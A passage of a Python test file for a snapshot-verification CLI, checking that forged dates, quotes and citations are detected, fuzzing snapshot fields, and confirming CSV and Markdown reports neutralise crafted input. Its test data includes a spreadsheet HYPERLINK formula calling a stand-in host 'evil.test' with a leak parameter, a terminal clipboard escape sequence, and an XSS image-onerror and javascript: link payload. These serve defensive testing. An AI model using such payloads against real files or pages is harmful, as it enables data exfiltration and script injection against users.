    def blocks(doc: dict[str, Any]) -> list[Any]:
        return [(title, [(n, q, holders[cid], cid, day, p) for n, q, _, cid, day, p in bs], gaps)
                for title, bs, gaps in _blocks(doc)]

    assert blocks(again) == blocks(audit.synthesis)
    r = run("clean", charter, "--snapshot", tmp_path / "replay.jsonl")
    assert r.exit_code == 0, r.output
    assert run("verify", tmp_path / "replay.jsonl").exit_code == 0


# -- resealed forgeries, checked against the genuine HAR ----------------------------------------------------------


def _chunk_of(records: list[dict[str, Any]], cid: str) -> dict[str, Any]:
    return next(r for r in records if r["type"] == "chunk" and r["id"] == cid)


def _forge_date(records: list[dict[str, Any]]) -> None:
    """A later last-updated date, everywhere the snapshot states it for the cited page."""
    block = _first_block(records)
    for r in records:
        if r["type"] in ("page", "chunk") and block["url"] in (r.get("final_url"), r.get("url")):
            r["last_updated"] = "2031-01-01"
    for s in next(r for r in records if r["type"] == "synthesis")["sections"]:
        for b in s["blocks"]:
            if b["url"] == block["url"]:
                b["markdown"] = b["markdown"].replace(f"(last updated: {b['last_updated'] or 'unknown'})",
                                                      "(last updated: 2031-01-01)")
                b["last_updated"] = "2031-01-01"


def _forge_quote(records: list[dict[str, Any]]) -> None:
    """The quote changed, and its chunk's text and id recomputed so that every hash holds."""
    from memory_store.chunking import chunk_id

    block = _first_block(records)
    chunk = _chunk_of(records, block["chunk_id"])
    old, new_text = chunk["id"], chunk["text"].replace("1953", "1935")
    assert new_text != chunk["text"]
    chunk["text"], chunk["id"] = new_text, chunk_id(new_text)
    for r in records:
        if r["type"] == "page" and old in r["chunk_ids"]:
            r["chunk_ids"] = [chunk["id"] if c == old else c for c in r["chunk_ids"]]
            r["text"] = r["text"].replace("1953", "1935")
        if r["type"] == "concept_pointer" and r["chunk_id"] == old:
            r["chunk_id"] = chunk["id"]
    block["quote"] = block["quote"].replace("1953", "1935")
    block["markdown"] = block["markdown"].replace("1953", "1935")
    block["chunk_id"] = chunk["id"]


def _forge_citation(records: list[dict[str, Any]]) -> None:
    """The block re-cited to another stored page, that page now listing the chunk among its own."""
    block = _first_block(records)
    chunk = _chunk_of(records, block["chunk_id"])
    other = next(r for r in records if r["type"] == "page" and r["final_url"] not in (block["url"],
                                                                                       *chunk["also_seen_at"]))
    chunk["also_seen_at"] = [*chunk["also_seen_at"], other["final_url"]]
    other["chunk_ids"] = [*other["chunk_ids"], chunk["id"]]
    shown = lambda u: u.split("://", 1)[1]  # noqa: E731
    block["markdown"] = block["markdown"].replace(shown(block["url"]), shown(other["final_url"]))
    block["url"], block["last_updated"] = other["final_url"], other["last_updated"]


@pytest.mark.parametrize("forge", [_forge_date, _forge_quote, _forge_citation], ids=["date", "quote", "citation"])
def test_verify_with_the_genuine_har_catches_resealed_forgeries(audit: Any, home: Path, tmp_path: Path,
                                                                forge: Any) -> None:
    forged = tampered(audit, tmp_path, forge)  # manifest resealed; the HAR beside it is the genuine one
    assert run("verify", forged, "--no-har").exit_code == 0  # the snapshot alone holds together
    r = run("verify", forged, "--json")
    doc = json.loads(r.stdout)
    assert r.exit_code == 1 and not doc["ok"], doc["verdict"]
    assert {f["check"] for f in doc["failures"]} == {"provenance"}, doc["failures"]


def test_verify_a_citation_of_a_page_that_does_not_hold_the_chunk(audit: Any, home: Path, tmp_path: Path) -> None:
    def recite(records: list[dict[str, Any]]) -> None:
        _forge_citation(records)
        block = _first_block(records)
        page = next(r for r in records if r["type"] == "page" and r["final_url"] == block["url"])
        page["chunk_ids"].remove(block["chunk_id"])  # the page no longer lists it: only also_seen_at does

    doc = json.loads(run("verify", tampered(audit, tmp_path, recite), "--no-har", "--json").stdout)
    assert any("does not hold chunk" in f["message"] for f in doc["failures"]), doc["failures"]


# -- crafted snapshots: a schema, never a traceback ----------------------------------------------------------------

HOSTILE_VALUES = [None, 0, -1, 10**30, 1.5, "", '=HYPERLINK("http://evil.test")', [], {}, [None], True,
                  "\x1b]52;c;AAAA\x07", {"a": [1]}, "x"]


def _field_paths(value: Any, prefix: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    out: list[tuple[Any, ...]] = []
    if isinstance(value, dict):
        for key, v in value.items():
            if prefix or key != "type":
                out.append((*prefix, key))
                if len(prefix) < 4:
                    out += _field_paths(v, (*prefix, key))
    elif isinstance(value, list) and value:
        out.append((*prefix, 0))
        if len(prefix) < 4 and not all(isinstance(x, float) for x in value):
            out += _field_paths(value[0], (*prefix, 0))
    return out


def _mutations(records: list[dict[str, Any]], count: int) -> list[tuple[int, tuple[Any, ...], Any, bool]]:
    """``count`` one-field mutations (record, field path, new value, delete?) spread over every record type."""
    import random

    fields = [(i, p) for i, r in enumerate(records) for p in _field_paths(r)]
    random.Random(34).shuffle(fields)
    by_type: dict[str, list[tuple[int, tuple[Any, ...]]]] = {}
    for i, p in fields:
        by_type.setdefault(records[i]["type"], []).append((i, p))
    picked: list[tuple[int, tuple[Any, ...]]] = []
    while len(picked) < count and any(by_type.values()):
        for queue in by_type.values():  # round robin: every record type gets its share
            if queue and len(picked) < count:
                picked.append(queue.pop())
    return [(i, p, HOSTILE_VALUES[n % len(HOSTILE_VALUES)], n % 7 == 6) for n, (i, p) in enumerate(picked)]


def _mutated(records: list[dict[str, Any]], index: int, path: tuple[Any, ...], value: Any, delete: bool) -> list[Any]:
    import copy

    out = copy.deepcopy(records)
    node = out[index]
    for key in path[:-1]:
        node = node[key]
    if delete and isinstance(node, dict):
        del node[path[-1]]
    else:
        node[path[-1]] = value
    return out


def test_fuzz_one_field_mutations_get_a_verdict_or_a_clean_error(audit: Any, home: Path, tmp_path: Path) -> None:
    """300 one-field mutations of a real snapshot (resealed, the genuine HAR beside each): verify always gives a
    verdict or a clean error, never a traceback; so does restore --force (on every fifth)."""
    records = read_records(audit.snapshot)
    mutations = _mutations(records, 300)
    assert len({records[i]["type"] for i, _p, _v, _d in mutations}) >= 10
    crashes: list[str] = []
    for n, (index, path, value, delete) in enumerate(mutations):
        snap = write_records(_mutated(records, index, path, value, delete), tmp_path / f"m{n}.jsonl")
        shutil.copyfile(audit.snapshot.with_suffix(".har"), snap.with_suffix(".har"))
        what = f"{records[index]['type']}.{'.'.join(map(str, path))} = {value!r}{' (deleted)' if delete else ''}"
        runs = [("verify", snap)] + ([("restore", snap, "--force", "--id", f"fuzz_{n}", "--charter",
                                       tmp_path / f"c{n}.yaml")] if n % 5 == 0 else [])
        for args in runs:
            r = run(*args)
            if (r.exception is not None and not isinstance(r.exception, SystemExit)) or r.exit_code not in (0, 1, 2):
                crashes.append(f"{args[0]} {what}: {r.exception!r}")
            elif r.exit_code and not r.output.strip():
                crashes.append(f"{args[0]} {what}: exit {r.exit_code} without a message")
        shutil.rmtree(home / "memory" / f"fuzz_{n}", ignore_errors=True)
        snap.unlink()
    assert not crashes, "\n".join(crashes)


def test_reports_of_a_crafted_snapshot_escape_every_cell(audit: Any, home: Path, tmp_path: Path) -> None:
    """A snapshot that holds together by itself (verify --no-har: OK) with a formula for a date and markup for
    a title: every CSV cell is neutralised, the Markdown Sources table shows the markup as text."""
    formula = '=HYPERLINK("http://evil.test/?leak","click")'
    title = '<img src=x onerror=alert(1)> [x](javascript:alert(1))'

    def craft(records: list[dict[str, Any]]) -> None:
        block = _first_block(records)
        for r in records:
            if r["type"] in ("page", "chunk") and block["url"] in (r.get("final_url"), r.get("url")):
                r["last_updated"] = formula
                r["title"] = title
        for s in next(r for r in records if r["type"] == "synthesis")["sections"]:
            for b in s["blocks"]:
                if b["url"] == block["url"]:
                    b["last_updated"] = formula
                    b.pop("markdown", None)

    snap = tampered(audit, tmp_path, craft)
    assert run("verify", snap, "--no-har").exit_code == 0
    rows = list(csv.reader(io.StringIO(run("report", snap, "--format", "csv").stdout, newline="")))
    cells = [c for row in rows[1:] for c in row]
    assert f"'{formula}" in cells and not [c for c in cells if c.startswith(("=", "+", "-", "@"))]
    md = run("report", snap, "--format", "md").stdout
    assert "\\<img src=x onerror=alert(1)\\> \\[x\\](javascript:alert(1))" in md
    assert "<img" not in md.replace("\\<img", "") and "](javascript" not in md.replace("\\](javascript", "")
